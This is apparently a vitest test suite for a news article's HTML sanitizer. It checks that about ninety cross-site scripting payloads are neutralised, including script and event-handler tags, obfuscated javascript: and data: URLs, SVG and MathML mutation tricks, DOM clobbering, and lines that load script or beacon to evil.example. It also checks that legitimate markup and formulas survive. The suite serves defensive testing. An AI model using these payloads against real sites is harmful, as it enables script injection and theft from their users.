import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { blockText } from '@/core/article/blocks';
import { renderContent, sanitizeContent, sanitizeHtml } from '@/core/article/sanitize';

/** What may come out; written again here, so that a slip in the product's own list is seen. */
const TAGS = new Set(
  (
    'P H1 H2 H3 H4 H5 H6 BLOCKQUOTE PRE HR BR DIV SECTION UL OL LI DL DT DD FIGURE FIGCAPTION IMG DETAILS SUMMARY ' +
    'TABLE CAPTION COLGROUP COL THEAD TBODY TFOOT TR TH TD A STRONG B EM I U S DEL INS MARK SMALL SUB SUP CODE KBD ' +
    'SAMP VAR Q CITE ABBR DFN TIME SPAN RUBY RT RP BDI BDO WBR'
  ).split(' '),
);
const FORMULAS = new Set(
  (
    'math mrow mi mn mo ms mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover ' +
    'mmultiscripts mprescripts mtable mtr mtd mpadded semantics'
  ).split(' '),
);
const ATTRIBUTES = new Set(
  (
    'href src srcset sizes alt title width height lang dir datetime colspan rowspan scope start reversed value open ' +
    'cite rel loading decoding referrerpolicy id display mathvariant'
  ).split(' '),
);
const HREF = /^(?:https?:\/\/|mailto:|#lede-\d+$)/i;
const SRC = /^(?:https?:\/\/|data:image\/(?:png|jpe?g|gif|webp|avif);base64,)/i;

/** Every payload calls this if it ever runs. */
const RUN = 'window.executed=1';
const SVG_URL = `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`)}`;

const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type="application/ld+json">{}</script>`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg><animate attributeName="href" values="javascript:${RUN}"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}">`,
  `<style>body{background:url(https://evil.example/?x)}</style>`,
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<div style="position:fixed;inset:0">x</div>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.executed=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<applet code="x"></applet><marquee onstart="${RUN}">x</marquee>`,
  `<form action="javascript:${RUN}"><input name=x><button formaction="javascript:${RUN}">x</button></form>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=&#119;indow.executed=1>`,
  `<img src="https://a.example/x.png" onload="${RUN}" OnClick="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<p onmouseover="${RUN}" onfocus="${RUN}" tabindex=0 autofocus>x</p>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video src=x onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio>`,
  `<video><source onerror="${RUN}"></video>`,
  `<body onload="${RUN}"><p>x</p></body>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="java&#10;script:${RUN}">x</a>`,
  `<a href=" \u0001javascript:${RUN}">x</a>`,
  `<a href="&#106;avascript&colon;${RUN}">x</a>`,
  `<a href="javascript&#x3a;${RUN}">x</a>`,
  `<a href="\u00a0javascript:${RUN}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="DATA:text/html;base64,PHNjcmlwdD4=">x</a>`,
  `<a href="blob:https://a.example/1">x</a><a href="file:///etc/passwd">x</a>`,
  `<a href="https:javascript:${RUN}">x</a>`,
  `<a href="chrome-extension://abc/options.html">x</a>`,
  `<a href="https://a.example" target="_blank" ping="https://evil.example" download onclick="${RUN}">x</a>`,
  `<a xlink:href="javascript:${RUN}">x</a>`,
  `<blockquote cite="javascript:${RUN}">x</blockquote><q cite="data:text/html,x">x</q>`,
  `<img src="${SVG_URL}">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>">`,
  `<img src=" DATA:image/svg+xml,x">`,
  `<img src="data:text/html,x">`,
  `<img src="data:image/png,<script>">`,
  `<img src="data:image/png;base64,AAAA#<svg>">`,
  `<img src="mailto:x@evil.example">`,
  `<img src="javascript:${RUN}">`,
  `<img src="/relative.png"><img src="//evil.example/x.png">`,
  `<img srcset="javascript:${RUN} 2x">`,
  `<img srcset="https://a.example/x.png 1x, ${SVG_URL} 2x">`,
  `<img srcset="https://a.example/x.png 1x,${SVG_URL} 2x">`,
  `<img srcset=",,${SVG_URL}">`,
  `<img srcset="https://a.example/x.png, javascript:${RUN}">`,
  `<img srcset="https://a.example/x.png 1x,/relative.png 2x">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<title>x</title><frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><script>${RUN}</script><img src=x onerror="${RUN}"></template>`,
  `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
  `<table><td><script>${RUN}</script><svg></td><td onclick="${RUN}">x</td></table>`,
  `<select><option><style></option></select><img src=x onerror="${RUN}"></style>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">x</a>`,
  `<textarea></textarea><xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<plaintext><img src=x onerror="${RUN}">`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<img src=x onerror="${RUN}">]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `${'<div>'.repeat(600)}<img src=x onerror="${RUN}">${'</div>'.repeat(600)}`,
  `<img name="body"><img id="getElementById"><a id="location" name="location">x</a>`,
  `<form id="attributes"><input name="parentNode"><img name="removeChild"></form>`,
  `<p id="executed" class="x" data-x="y" aria-label="z" role="button" slot="s" nonce="n">x</p>`,
  `<p is="x-y">x</p>`,
  `<custom-element onclick="${RUN}">x</custom-element>`,
  `<a href="https://a.example" style="x" contenteditable accesskey="x" popovertarget="y">x</a>`,
];

function unsafe(fragment: DocumentFragment): string[] {
  const walker = document.createTreeWalker(fragment);
  const found: string[] = [];
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (node.nodeType !== 1 && node.nodeType !== 3) found.push(`node of type ${node.nodeType}`);
    if (node.nodeType !== 1) continue;
    const element = node as Element;
    const isFormula = element.namespaceURI === 'http://www.w3.org/1998/Math/MathML';
    const isText = element.namespaceURI === 'http://www.w3.org/1999/xhtml';
    if (isFormula ? !FORMULAS.has(element.tagName) : !isText || !TAGS.has(element.tagName)) {
      found.push(element.tagName);
    }
    if (isFormula && element.hasAttribute('href')) found.push('a formula that is a link');
    for (const { name, value } of element.attributes) {
      const address = name === 'src' ? SRC.test(value) : HREF.test(value);
      const isAddress = ['href', 'src', 'srcset', 'cite'].includes(name);
      if (!ATTRIBUTES.has(name) || (isAddress && !address)) found.push(`${name}=${value}`);
      if (name === 'srcset' && /javascript:|data:|,\s*\//i.test(value)) found.push(`${name}=${value}`);
    }
  }
  return found;
}

function textOf(fragment: DocumentFragment): string {
  const host = document.implementation.createHTMLDocument().createElement('div');
  host.append(fragment);
  return host.innerHTML;
}

describe('hostile HTML', () => {
  const stage = document.createElement('main');
  const global = window as Window & { executed?: number };

  beforeEach(() => {
    delete global.executed;
    document.body.append(stage);
  });
  afterEach(() => {
    stage.replaceChildren();
    stage.remove();
  });

  test.for(PAYLOADS)('%s', async (payload) => {
    const html = sanitizeHtml(payload, window);
    const fragment = renderContent(html, window);
    expect(unsafe(fragment)).toEqual([]);
    expect(unsafe(renderContent(payload, window))).toEqual([]);
    expect(textOf(renderContent(html, window))).toBe(textOf(fragment));
    stage.append(renderContent(html, window));
    await new Promise((resolve) => setTimeout(resolve, 5));
    expect(global.executed).toBeUndefined();
  });

  test.for(PAYLOADS)('as nodes: %s', (payload) => {
    const page = new DOMParser().parseFromString(`<div>${payload}</div>`, 'text/html');
    const html = sanitizeHtml(page.body.firstElementChild ?? page, window);
    expect(unsafe(renderContent(html, window))).toEqual([]);
  });

  test('the stage would notice: an unsafe payload does run there', async () => {
    stage.append(document.createRange().createContextualFragment(`<img src="data:,x" onerror="${RUN}">`));
    await expect.poll(() => global.executed).toBe(1);
  });
});

describe('what is stored and its text', () => {
  test('a customised paragraph keeps its text and its links', () => {
    const dirty = document.createElement('div');
    const page = new DOMParser().parseFromString(
      '<p is="x-y" "=x>潮水<a is="x-z" href="https://a.example/">退了</a>。</p>',
      'text/html',
    );
    dirty.replaceChildren(...page.body.childNodes);
    const { html } = sanitizeContent(dirty, window);
    expect(blockText(renderContent(html, window))).toBe('潮水退了。');
    expect(html).toContain('href="https://a.example/"');
  });

  test.for(PAYLOADS)('agree for %.60j', (payload) => {
    const page = new DOMParser().parseFromString(
      `<p>潮水退了。</p>${payload}<p>The tide is out.</p>`,
      'text/html',
    );
    const dirty = page.createElement('div');
    dirty.append(...page.body.childNodes);
    const { html, content } = sanitizeContent(dirty, window);
    expect(html).toBe(sanitizeHtml(dirty, window));
    expect(blockText(content)).toBe(blockText(renderContent(html, window)));
  });
});

describe('what an article is made of', () => {
  test.for([
    ['<p>Bridge <b>closes</b><br>today</p>', '<p>Bridge <b>closes</b><br>today</p>'],
    ['<h2>a</h2><ul><li>b</li></ul>', '<h2>a</h2><ul><li>b</li></ul>'],
    [
      '<ol start="3" reversed=""><li value="7">b</li></ol>',
      '<ol start="3" reversed=""><li value="7">b</li></ol>',
    ],
    [
      '<table><caption>c</caption><tbody><tr><th scope="row" colspan="2">a</th><td rowspan="3">b</td></tr></tbody></table>',
      '<table><caption>c</caption><tbody><tr><th scope="row" colspan="2">a</th><td rowspan="3">b</td></tr></tbody></table>',
    ],
    ['<p lang="ja" dir="rtl">x</p>', '<p lang="ja" dir="rtl">x</p>'],
    ['<time datetime="2026-03-05">today</time>', '<time datetime="2026-03-05">today</time>'],
    ['<ruby>漢<rp>(</rp><rt>かん</rt><rp>)</rp></ruby>', '<ruby>漢<rp>(</rp><rt>かん</rt><rp>)</rp></ruby>'],
    ['<details open=""><summary>a</summary>b</details>', '<details open=""><summary>a</summary>b</details>'],
    ['<q cite="https://a.example/">x</q>', '<q cite="https://a.example/">x</q>'],
    ['<custom-box><p>kept</p></custom-box>', '<p>kept</p>'],
    ['<center><font color="red">kept</font></center>', 'kept'],
    [
      '<a href="mailto:desk@news.example">x</a>',
      '<a href="mailto:desk@news.example" rel="noopener noreferrer">x</a>',
    ],
  ] as const)('%s stays', ([dirty, clean]) => {
    expect(sanitizeHtml(dirty, window)).toBe(clean);
  });

  test('links give no opener and no referrer', () => {
    const link = renderContent('<a href="https://a.example/" rel="opener" target="_blank">x</a>', window);
    expect(textOf(link)).toBe('<a href="https://a.example/" rel="noopener noreferrer">x</a>');
  });

  test.for([
    'https://a.example/x.png',
    `data:image/png;base64,${btoa('png')}`,
    `data:image/jpeg;base64,${btoa('jpeg')}`,
    `data:image/webp;base64,${btoa('webp')}`,
  ])('an image of %s is kept with its size, loads late and tells no referrer', (src) => {
    const fragment = renderContent(`<img src="${src}" alt="a" width="640" height="360">`, window);
    const image = fragment.querySelector('img');
    expect(
      Object.fromEntries([...(image?.attributes ?? [])].map(({ name, value }) => [name, value])),
    ).toEqual({
      src,
      alt: 'a',
      width: '640',
      height: '360',
      loading: 'lazy',
      decoding: 'async',
      referrerpolicy: 'no-referrer',
    });
  });

  test.for([
    'https://a.example/x.png 1x, https://a.example/y.png 2x',
    'https://a.example/x.png 640w,https://a.example/y.png 1280w',
    'https://a.example/w_640,h_360/x.png 640w',
    'https://a.example/x.png',
  ])('srcset="%s" is kept', (srcset) => {
    const fragment = renderContent(`<img srcset="${srcset}" sizes="100vw">`, window);
    expect(fragment.querySelector('img')?.getAttribute('srcset')).toBe(srcset);
    expect(fragment.querySelector('img')?.getAttribute('sizes')).toBe('100vw');
  });
});

describe('formulas', () => {
  test.for([
    '<math><mrow><mi>f</mi><mo>=</mo><msqrt><mi>k</mi></msqrt></mrow></math>',
    '<math display="block"><mfrac><mn>1</mn><mn>2</mn></mfrac></math>',
  ])('%s stays', (html) => {
    expect(sanitizeHtml(html, window)).toBe(html);
  });

  test.for([
    ['<math><mi href="https://a.example">x</mi></math>', '<math><mi>x</mi></math>'],
    ['<math><mi style="color:red" class="a" onclick="alert(1)">x</mi></math>', '<math><mi>x</mi></math>'],
    ['<math><maction actiontype="toggle"><mi>x</mi></maction></math>', '<math><mi>x</mi></math>'],
  ] as const)('%s becomes %s', ([html, clean]) => {
    expect(sanitizeHtml(html, window)).toBe(clean);
  });
});

describe('names of targets', () => {
  test.for([
    ['<p id="lede-1">x</p><a href="#lede-1">y</a>', '<p id="lede-1">x</p><a href="#lede-1">y</a>'],
    ['<p id="highlights">x</p><a href="#highlights">y</a>', '<p>x</p><a>y</a>'],
    ['<p id="lede-x">x</p>', '<p>x</p>'],
  ] as const)('%s becomes %s', ([html, clean]) => {
    expect(sanitizeHtml(html, window)).toBe(clean);
  });
});
